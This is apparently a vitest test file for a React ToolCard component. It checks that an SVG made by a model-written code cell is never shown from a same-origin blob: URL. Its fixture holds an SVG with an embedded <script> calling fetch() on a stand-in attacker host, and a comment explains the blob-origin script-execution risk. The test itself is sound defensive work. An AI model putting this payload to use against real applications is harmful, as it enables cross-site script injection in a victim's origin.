// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CairnClient } from '../../../sidecar/src/client';
import { ToolCard } from '../../src/components/ToolCard';
import { I18nProvider } from '../../src/i18n/i18n';
import { newCard } from '../../src/state/tool-items';
import '../support/lazy-bodies';
import { codeResult } from '../support/code-result';
import { storedToolCall } from '../support/tool-calls';

/**
 * An SVG a cell made is attacker-controlled (the model wrote the cell). Shown from a `blob:` object URL it is
 * same-origin with the app: "Open image in new tab" (a browser's context menu, `cairn serve`) loads it as a
 * document in the app's origin, where its <script> runs with no CSP (a top-level blob document does not keep
 * the creator's policy; checked in Chromium 156). A `data:` URL opens with an opaque origin instead.
 */
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/")</script></svg>';
const RESULT = JSON.stringify(
  codeResult({
    files: [{ id: 'art_svg1', path: '/a/art_svg1.svg', mime: 'image/svg+xml', bytes: SVG.length }],
  }),
);

function client() {
  const fakeFetch: typeof fetch = async (input) => {
    const url = String(input);
    if (url.endsWith('/api/tool-calls/tc1')) {
      const stored = storedToolCall({
        id: 'tc1',
        name: 'execute_code',
        input: { code: 'x' },
        status: 'completed',
      });
      return new Response(JSON.stringify({ ...stored, preview: RESULT.slice(0, 20), result: RESULT }));
    }
    return new Response(SVG, { headers: { 'content-type': 'image/svg+xml; charset=utf-8' } });
  };
  return new CairnClient({ url: 'http://x', token: 't' }, fakeFetch);
}

beforeAll(async () => {
  await import('../../src/components/tool-cards/CodeBody');
});
afterEach(cleanup);

describe('an SVG output of a cell', () => {
  it('is not shown from a same-origin blob: URL', async () => {
    const card = {
      ...newCard('tu1', 'execute_code', { code: 'x' }),
      status: 'completed' as const,
      toolCallId: 'tc1',
      durationMs: 1,
      preview: '{"success": true, "std',
    };
    const { container } = render(
      <I18nProvider locale="en">
        <ToolCard card={card} client={client()} />
      </I18nProvider>,
    );
    fireEvent.click(screen.getAllByRole('button')[0]!);
    await waitFor(() => expect(container.querySelector('img.code-card-image')).not.toBeNull(), {
      timeout: 15_000,
    });
    expect(container.querySelector('img.code-card-image')!.getAttribute('src')!.startsWith('blob:')).toBe(
      false,
    );
  });
});
